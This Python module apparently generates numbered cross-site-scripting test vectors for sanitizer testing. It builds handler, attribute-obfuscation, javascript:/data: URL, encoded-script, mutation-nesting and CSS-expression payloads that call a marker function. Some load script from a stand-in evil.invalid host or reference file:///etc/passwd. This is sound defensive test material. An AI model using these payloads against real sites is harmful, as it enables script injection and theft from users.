"""Hostile markup for the pages that show other people's text: made by families, every one with its own number (P16).

Where a vector runs, it calls `ran(number)`. `NUMBER` stands for the number in the templates, `CALL` for the call.
"""

from collections.abc import Iterator
from itertools import product

CALL, NUMBER = "top.ran(NUMBER)", "NUMBER"

# -- any element, any handler -------------------------------------------------------------------------------------------

_ELEMENTS = (
    "p", "b", "i", "em", "u", "sub", "sup", "td", "th", "table", "ul", "li", "br", "div", "a", "img src=x", "video src=x", "audio src=x",
    "svg", "body", "input autofocus", "details open", "marquee", "iframe", "object", "select autofocus", "textarea autofocus",
    "button autofocus", "x-y tabindex=1", "math", "style", "form", "keygen autofocus", "dialog open", "meter", "option",
)  # fmt: skip
_HANDLERS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onstart", "onanimationstart", "onpointerover",
    "onwheel", "oncut", "onpaste", "onbeforetoggle", "onscroll",
)  # fmt: skip


def _handlers() -> Iterator[str]:
    for element, handler in product(_ELEMENTS, _HANDLERS):
        yield f"<{element} {handler}={CALL}>x"


# -- how an attribute can be written ------------------------------------------------------------------------------------

_WRITINGS = (
    "<{0}/onerror={1}>", "<{0}\tonerror={1}>", "<{0}\nonerror={1}>", "<{0}\x0conerror={1}>", "<{0}/ /onerror={1}>", "<{0} onerror ={1}>",
    "<{0} onerror= {1}>", "<{0} onerror='{1}'>", '<{0} onerror="{1}">', "<{0} ONERROR={1}>", "<{0} oNeRrOr={1}//>", "<{0} x=\">\" onerror={1}>",
    "<{0} x='>' onerror={1}>", "<{0} x=`>` onerror={1}>", "<{0} '' onerror={1}>", "<{0} \"x\"onerror={1}>", "<{0} alt=x\x00 onerror={1}>",
    "<{0} onerror={1} <p>", "<{0} onerror={1}", "<<{0} onerror={1}>", "<{0}<b onerror={1}>", "</p><{0} onerror={1}>", "<{0} x=1 x=2 onerror={1}>",
    "<{0} onerror=&#116;op.ran(NUMBER)>", "<{0} onerror=&#x74;op&period;ran&lpar;NUMBER&rpar;>", "<{0} onerror=\"\n{1}\n\">",
    "<{0} onerror=\"t\\u006fp.ran(NUMBER)\">", "<{0} onerror=window['top']['ran'](NUMBER)>", "<{0} onerror=javascript:{1}>",
)  # fmt: skip


def _writings() -> Iterator[str]:
    for element, writing in product(("img src=x", "video src=x", "IMG SRC=x", "image src=x"), _WRITINGS):
        yield writing.format(element, CALL)


# -- addresses that run -------------------------------------------------------------------------------------------------

_SCHEMES = (
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f" javascript:{CALL}", f"\x01javascript:{CALL}", f"java\tscript:{CALL}", f"java\nscript:{CALL}",
    f"&#106;avascript:{CALL}", f"javascript&colon;{CALL}", f"&#x6A;&#x61;vascript&#58;{CALL}", f"javascript://%0a{CALL}", f"vbscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>", f"data:image/svg+xml,<svg onload={CALL}>", f"data:text/html;charset=utf-16,<b onclick={CALL}>",
    "//evil.invalid/x.js", "http://evil.invalid/NUMBER", "\\\\evil.invalid\\x", "file:///etc/passwd",
)  # fmt: skip
_ADDRESSES = (
    '<a href="{}">x</a>', '<iframe src="{}"></iframe>', '<form action="{}"><button>x</button></form>', '<button formaction="{}">x</button>',
    '<object data="{}"></object>', '<embed src="{}">', '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>', '<base href="{}">',
    '<math href="{}">x</math>', '<link rel=stylesheet href="{}">', '<meta http-equiv=refresh content="0;url={}">', '<td background="{}">x</td>',
    '<svg><use href="{}"></svg>', '<svg><animate attributeName=href to="{}"></svg>', '<img src="{}">', '<img srcset="{} 2x">',
    '<video poster="{}">', '<area href="{}">', '<script src="{}"></script>', '<p cite="{}">x</p>', '<iframe srcdoc="{}"></iframe>',
)  # fmt: skip


def _addresses() -> Iterator[str]:
    for place, scheme in product(_ADDRESSES, _SCHEMES):
        yield place.format(scheme)


# -- scripts ------------------------------------------------------------------------------------------------------------

_SCRIPTS = (
    "<script>{0}</script>", "<SCRIPT>{0}</SCRIPT>", "<script\n>{0}</script >", "<script/x>{0}</script>", "<script type=module>{0}</script>",
    "<scr<script>ipt>{0}</scr</script>ipt>", "<script>{0}", "<<script>{0}//<</script>", "<script><!--\n{0}\n--></script>", "<svg><script>{0}</script></svg>",
    "<svg><script>&#116;op.ran(NUMBER)</script></svg>", "<math><script>{0}</script></math>", "<script xmlns='http://www.w3.org/1999/xhtml'>{0}</script>",
    "<svg><script href='data:text/javascript,{0}'/></svg>", "<script\x00>{0}</script>", "\x00<script>{0}</script>", "<s\x00cript>{0}</script>",
    "<script language=javascript>{0}</script>", "<template><script>{0}</script></template>",
    "<div><template shadowrootmode=open><script>{0}</script></template></div>",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-", "\uff1cscript\uff1e{0}\uff1c/script\uff1e", "&lt;script&gt;{0}&lt;/script&gt;", "&amp;lt;script&amp;gt;{0}",
    "%3Cscript%3E{0}%3C/script%3E", "<script>\u2028{0}\u2029</script>", "{{{{constructor.constructor('{0}')()}}}}", "${{{0}}}", "<%= {0} %>",
    "<?xml-stylesheet href='javascript:{0}'?>",
    "<![CDATA[<script>{0}</script>]]>", "<!--[if gte IE 4]><script>{0}</script><![endif]-->", "<xml><i><b>&lt;img src=x onerror={0}&gt;</b></i></xml>",
    "<noscript><script>{0}</script></noscript>", "<isindex action=javascript:{0} type=image>", "<?php echo '<script>{0}</script>' ?>",
)  # fmt: skip


def _scripts() -> Iterator[str]:
    for script in _SCRIPTS:
        yield script.format(CALL)


# -- markup that becomes another tree when it is written out and read again ---------------------------------------------

_RUNNERS = (
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<script>{0}</script>",
    "<iframe onload={0}>",
    "<details open ontoggle={0}>x",
)
_NESTINGS = (
    "<math><mtext><table><mglyph><style>{0}", "<math><mtext><table><mglyph><style><!--</style>{0}", "<math><mi><table><malignmark><style>{0}",
    "<svg><style>{0}</style></svg>", "<svg><title>{0}</title></svg>", "<svg><desc>{0}</desc></svg>", "<svg><foreignObject>{0}</foreignObject></svg>",
    "<svg></p><style><a id=\"</style>{0}\">", "<math><annotation-xml encoding=text/html>{0}</annotation-xml></math>", "<math><style><!--</style>{0}--></math>",
    "<noscript><p title=\"</noscript>{0}\"></noscript>", "<noembed><p title=\"</noembed>{0}\"></noembed>", "<noframes><p title=\"</noframes>{0}\"></noframes>",
    "<xmp><p title=\"</xmp>{0}\"></xmp>", "<title><p title=\"</title>{0}\"></title>", "<textarea><p title=\"</textarea>{0}\"></textarea>",
    "<style><p title=\"</style>{0}\"></style>", "<iframe><p title=\"</iframe>{0}\"></iframe>", "<plaintext>{0}", "<listing>{0}</listing>",
    "<select><option><style></option></select>{0}</style>", "<select>{0}</select>", "<table>{0}<tr><td>x</td></tr></table>",
    "<table><caption>{0}</caption></table>",
    "<table><colgroup>{0}</colgroup></table>", "<form><math><mtext></form><form><mglyph><style></math>{0}", "<!--><b>-->{0}", "<!--x--!>{0}-->",
    "<!-->{0}-->", "<!--->{0}-->", "<!-- -- >{0} -->", "<!DOCTYPE x [<!ENTITY y '{0}'>]>&y;", "<p title='{0}'>x</p>", "<td colspan=\"1>{0}\">x</td>",
    "<td rowspan='1' {0}>x</td>", "<b><p><b>{0}</p></b>", "<ul><li><ul>{0}</li></ul>", "<svg><a><table><td></a>{0}", "<svg><![CDATA[><p>{0}</p>]]></svg>",
    "<template>{0}</template>", "<frameset>{0}</frameset>", "<option><select>{0}", "<ruby><rt>{0}</rt></ruby>", "<a><a>{0}</a></a>", "<br/></br>{0}</p>",
)  # fmt: skip


def _nestings() -> Iterator[str]:
    for nesting, runner in product(_NESTINGS, _RUNNERS):
        yield nesting.replace("{0}", runner.format(CALL))


# -- styles -------------------------------------------------------------------------------------------------------------

_STYLES = (
    "background:url(javascript:{0})", "background:url('//evil.invalid/NUMBER')", "width:expression({0})", "-moz-binding:url(//evil.invalid/x)",
    "behavior:url(x.htc)", "position:fixed;inset:0;z-index:9", "background:\\75rl(javascript:{0})", "list-style-image:url(javascript:{0})",
    "animation:x 1s", "content:attr(x)", "@import 'javascript:{0}'", "x:expr/**/ession({0})",
)  # fmt: skip
_STYLED = (
    '<p style="{0}">x</p>', '<td style="{0}">x</td>', "<style>*{{{0}}}</style>", "<svg><style>*{{{0}}}</style></svg>", '<b class=x style="{0}">x</b>',
    "<style>@import url(\"data:text/css,*{{{0}}}\");</style>",
)  # fmt: skip


def _styles() -> Iterator[str]:
    for place, style in product(_STYLED, _STYLES):
        yield place.format(style.replace("{0}", CALL))


FAMILIES = {
    "handlers": _handlers,
    "writings": _writings,
    "addresses": _addresses,
    "scripts": _scripts,
    "nestings": _nestings,
    "styles": _styles,
}


def list_vectors() -> list[tuple[str, str]]:
    """Return family and vector, each vector once, numbered from 0 in this order."""
    templates = dict.fromkeys((family, text) for family, make in FAMILIES.items() for text in make())
    return [(family, text.replace(NUMBER, str(number))) for number, (family, text) in enumerate(templates)]
